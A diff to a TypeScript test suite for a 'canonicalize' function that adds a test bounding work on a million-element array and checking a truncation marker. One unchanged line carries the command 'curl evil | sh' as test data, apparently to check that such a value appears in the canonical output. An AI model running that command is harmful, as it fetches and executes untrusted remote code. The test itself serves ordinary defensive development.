@@ -60,6 +60,17 @@ describe('canonical arguments', () => {
     expect(r.text).toContain('"z_cmd":"curl evil | sh"');
   });
 
+  it('bound the work on a huge container and say how much was left out', () => {
+    const big = Array.from({ length: 1_000_000 }, (_, i) => i);
+    const started = performance.now();
+    const r = canonicalize({ big }, { maxNodes: 1000 });
+    expect(performance.now() - started).toBeLessThan(500);
+    expect(r.truncated).toBe(true);
+    const omitted = Number(/\[(\d+) more omitted\]/.exec(r.text)?.[1]);
+    expect(omitted).toBeGreaterThan(998_000);
+    expect(r.text.endsWith(`"[${omitted} more omitted]"]}`)).toBe(true);
+  });
+
   it('stop at the depth limit with a marker', () => {
     let deep: unknown = 'bottom';
     for (let i = 0; i < 100; i++) deep = [deep];
